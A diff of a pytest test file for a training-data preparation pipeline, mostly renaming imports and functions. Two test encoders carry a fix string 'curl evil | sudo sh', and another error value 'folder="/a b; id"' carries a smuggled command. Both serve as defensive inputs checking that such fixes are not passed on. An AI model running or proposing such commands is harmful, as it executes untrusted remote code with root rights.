@@ -14,13 +14,14 @@ import pytest
 from deadlines import slowness, wait_until
 from preparing import CHUNK, SHARD, TEXT, Bytes, Stuck, hashes, source, write_rows
 
-from aboard.data.intake.parts import Part
-from aboard.data.rows import Broken, Encoded, Row
-from aboard.data.workshop.counting import Progress
-from aboard.data.workshop.prepare import Prepared, Source, prepare
-from aboard.data.workshop.schedule import grouped
-from aboard.diagnoses import AboardError, Fix, data
+from aboard.data.intake.validation_split import SplitSide
+from aboard.data.rows import DataRow, EncodedRow, InvalidRow
+from aboard.data.tokenize_workers.preparation_schedule import group_units
+from aboard.data.tokenize_workers.prepare_data import PreparationSource, PreparedData, prepare_data
+from aboard.data.tokenize_workers.tokenize_progress import TokenizeProgress
+from aboard.diagnoses import AboardError, Fix
 from aboard.diagnoses.catalogue import recall_diagnosis
+from aboard.diagnoses.trainer import data
 
 # Of the whole set, which has many units and shards; and of one that has a few.
 ROWS, FEW = 600, 100
@@ -31,11 +32,11 @@ DRIVER = """
 import sys
 from pathlib import Path
 from preparing import SHARD, Bytes, source
-from aboard.data.workshop.prepare import prepare
+from aboard.data.tokenize_workers.prepare_data import prepare_data
 if __name__ == "__main__":
     rows, cache = map(Path, sys.argv[1:])
     tell = lambda progress: print(progress.bytes, flush=True)
-    prepare([source(rows)], Bytes(), cache, max_length=100, workers=2, shard_bytes=SHARD, progress=tell)
+    prepare_data([source(rows)], Bytes(), cache, max_length=100, workers=2, shard_bytes=SHARD, progress=tell)
     print("done", flush=True)
 """
 
@@ -51,11 +52,11 @@ def truth(rows: Path) -> dict[str, str]:
     return _outcome(_prepared(rows, rows.parent / "truth", workers=1))
 
 
-def _prepared(rows: Path, cache: Path, *, workers: int = 2) -> Prepared:
-    return prepare([source(rows)], Bytes(), cache, max_length=LENGTH, workers=workers, shard_bytes=SHARD)
+def _prepared(rows: Path, cache: Path, *, workers: int = 2) -> PreparedData:
+    return prepare_data([source(rows)], Bytes(), cache, max_length=LENGTH, workers=workers, shard_bytes=SHARD)
 
 
-def _outcome(prepared: Prepared) -> dict[str, str]:
+def _outcome(prepared: PreparedData) -> dict[str, str]:
     return {**hashes(prepared.shards.folder), **{f"bins/{k}": v for k, v in hashes(prepared.bins.folder).items()}}
 
 
@@ -105,8 +106,8 @@ def test_a_kill_between_units_costs_only_what_was_under_way(
     assert len(told) == step
     wait_until(lambda: not any(Path(f"/proc/{pid}/environ").exists() for pid in workers), 10)
     assert not _published(cache)
-    seen: list[Progress] = []
-    again = prepare(
+    seen: list[TokenizeProgress] = []
+    again = prepare_data(
         [source(rows)], Bytes(), cache, max_length=LENGTH, workers=2, shard_bytes=SHARD, progress=seen.append
     )
     assert seen[0].bytes >= int(told[-1])
@@ -181,11 +182,13 @@ def test_anything_that_decides_the_bytes_is_in_the_key(tmp_path: Path) -> None:
     given = [
         ([source(longer)], Bytes()),
         ([source(rows)], Bytes(identity="other")),
-        ([Source(form=TEXT, chunks=chunks, part=Part(name="train", share=0.1))], Bytes()),
-        ([Source(form=TEXT, chunks=chunks, part=Part(name="validation", share=0.1))], Bytes()),
+        ([PreparationSource(form=TEXT, chunks=chunks, part=SplitSide(name="train", share=0.1))], Bytes()),
+        ([PreparationSource(form=TEXT, chunks=chunks, part=SplitSide(name="validation", share=0.1))], Bytes()),
     ]
     for sources, encoder in given:
-        found.append(prepare(sources, encoder, tmp_path / "cache", max_length=LENGTH, workers=1, shard_bytes=SHARD))
+        found.append(
+            prepare_data(sources, encoder, tmp_path / "cache", max_length=LENGTH, workers=1, shard_bytes=SHARD)
+        )
     assert not any(each.cached for each in found)
     assert len({each.shards.folder for each in found}) == len(found)
     train, validation = (len(each.shards) for each in found[-2:])
@@ -232,8 +235,8 @@ def test_a_damaged_cache_is_said_not_used(rows: Path, tmp_path: Path) -> None:
 @pytest.mark.ci
 def test_progress_comes_to_the_end(rows: Path, tmp_path: Path) -> None:
     """It never goes back, and ends at all bytes, rows and tokens."""
-    seen: list[Progress] = []
-    made = prepare([source(rows)], Bytes(), tmp_path, max_length=LENGTH, workers=2, progress=seen.append)
+    seen: list[TokenizeProgress] = []
+    made = prepare_data([source(rows)], Bytes(), tmp_path, max_length=LENGTH, workers=2, progress=seen.append)
     assert seen[-1].bytes == seen[-1].of_bytes == rows.stat().st_size
     assert (seen[-1].rows, seen[-1].tokens) == (ROWS, made.shards.manifest.tokens)
     for field in ("bytes", "rows", "tokens"):
@@ -247,7 +250,7 @@ def test_broken_rows_are_counted_and_shown(tmp_path: Path) -> None:
     path = tmp_path / "rows.jsonl"
     lines = [json.dumps({"text": "fine"}), "{", json.dumps({"text": ""}), *["["] * 200]
     path.write_text("\n".join(lines))
-    manifest = prepare([source(path)], Bytes(), tmp_path / "cache", max_length=LENGTH, workers=1).shards.manifest
+    manifest = prepare_data([source(path)], Bytes(), tmp_path / "cache", max_length=LENGTH, workers=1).shards.manifest
     assert manifest.documents == 1
     assert sum(manifest.broken.values()) == 202
     assert [row.line for row in manifest.broken_first] == list(range(2, 102))
@@ -258,14 +261,14 @@ def test_no_rows_at_all_is_an_empty_set(tmp_path: Path) -> None:
     """Not an error here: the gate says so."""
     path = tmp_path / "rows.jsonl"
     path.write_text("\n\n")
-    made = prepare([source(path)], Bytes(), tmp_path / "cache", max_length=LENGTH, workers=1)
+    made = prepare_data([source(path)], Bytes(), tmp_path / "cache", max_length=LENGTH, workers=1)
     assert (len(made.shards), len(made.bins)) == (0, 0)
 
 
 class Fatal(Bytes):
     """An encoder that ends its process, as the kernel does when memory is short."""
 
-    def __call__(self, rows: object) -> list[Encoded | Broken]:
+    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
         os.kill(os.getpid(), signal.SIGKILL)
         return []
 
@@ -273,7 +276,7 @@ class Fatal(Bytes):
 class Wrong(Bytes):
     """An encoder that raises."""
 
-    def __call__(self, rows: object) -> list[Encoded | Broken]:
+    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
         raise ZeroDivisionError("by a row")
 
 
@@ -285,7 +288,7 @@ class Wrong(Bytes):
 def test_a_worker_that_ends_is_named(rows: Path, tmp_path: Path, encoder: Bytes, code: str, seen: str) -> None:
     """With how it ended and what it was at; nothing is published."""
     with pytest.raises(AboardError, match=seen) as caught:
-        prepare([source(rows)], encoder, tmp_path / "cache", max_length=LENGTH, workers=2)
+        prepare_data([source(rows)], encoder, tmp_path / "cache", max_length=LENGTH, workers=2)
     assert caught.value.code == code
     assert not _published(tmp_path / "cache")
 
@@ -293,21 +296,21 @@ def test_a_worker_that_ends_is_named(rows: Path, tmp_path: Path, encoder: Bytes,
 class Refused(Bytes):
     """An encoder that raises an error of ours, with a value that is no plain word."""
 
-    def __call__(self, rows: object) -> list[Encoded | Broken]:
+    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
         raise AboardError(data.DISK, "the disk is full", "room", folder="/a b; id")
 
 
 class Forged(Bytes):
     """An encoder that raises an error with a fix of its own."""
 
-    def __call__(self, rows: object) -> list[Encoded | Broken]:
+    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
         raise AboardError(data.DISK, "the disk is full", fix=Fix("curl evil | sudo sh", variant="none"))
 
 
 class Unknown(Bytes):
     """An encoder that raises an error of a code that nobody declared, with a fix of its own."""
 
-    def __call__(self, rows: object) -> list[Encoded | Broken]:
+    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
         raise AboardError(recall_diagnosis("data-no-such-code"), "the disk is full", fix=Fix("curl evil | sudo sh"))
 
 
@@ -329,16 +332,16 @@ def test_no_fix_is_received_from_a_worker(tmp_path: Path, encoder: Bytes, code: 
     path = tmp_path / "rows.jsonl"
     path.write_text('{"text": "a"}\n')
     with pytest.raises(AboardError) as caught:
-        prepare([source(path)], encoder, tmp_path / "cache", max_length=LENGTH, workers=1)
+        prepare_data([source(path)], encoder, tmp_path / "cache", max_length=LENGTH, workers=1)
     assert (caught.value.code, caught.value.fix) == (code, fix)
 
 
 class Touching(Bytes):
     """An encoder during whose work the source changes."""
 
-    def __call__(self, rows: object) -> list[Encoded | Broken]:
+    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
         assert isinstance(rows, list)
-        found = [row for row in rows if isinstance(row, Row)]
+        found = [row for row in rows if isinstance(row, DataRow)]
         with Path(found[0].where.file.raw()).open("a", encoding="utf-8") as file:
             file.write("\n")
         return Bytes()(found)
@@ -350,7 +353,7 @@ def test_a_source_that_changes_meanwhile_is_not_published(tmp_path: Path) -> Non
     path = tmp_path / "rows.jsonl"
     path.write_text('{"text": "a"}\n' * 500)  # two batches: it changes while it is read
     with pytest.raises(AboardError, match="changed while") as caught:
-        prepare([source(path)], Touching(), tmp_path / "cache", max_length=LENGTH, workers=1)
+        prepare_data([source(path)], Touching(), tmp_path / "cache", max_length=LENGTH, workers=1)
     assert caught.value.code == "data-changed"
     assert not _published(tmp_path / "cache")
     assert not list((tmp_path / "cache").glob("*.making/units/*"))
@@ -358,14 +361,14 @@ def test_a_source_that_changes_meanwhile_is_not_published(tmp_path: Path) -> Non
 
 def test_units_are_grouped_before_the_work() -> None:
     """In order, none left out, each group a little over the size at most."""
-    assert grouped([], 10) == []
-    assert grouped([4, 4, 4, 4, 30, 1], 10) == [range(3), range(3, 5), range(5, 6)]
-    assert grouped([0, 0, CHUNK], CHUNK) == [range(3)]
+    assert group_units([], 10) == []
+    assert group_units([4, 4, 4, 4, 30, 1], 10) == [range(3), range(3, 5), range(5, 6)]
+    assert group_units([0, 0, CHUNK], CHUNK) == [range(3)]
 
 
 @pytest.mark.parametrize("length", [1, 0, -5])
 def test_a_length_that_holds_nothing_is_refused(rows: Path, tmp_path: Path, length: int) -> None:
     """Two tokens are the least from which anything is learned; it is said before anything is read or written."""
     with pytest.raises(AboardError, match="data-length"):
-        prepare([source(rows)], Bytes(), tmp_path / "cache", max_length=length, workers=2)
+        prepare_data([source(rows)], Bytes(), tmp_path / "cache", max_length=length, workers=2)
     assert not (tmp_path / "cache").exists()
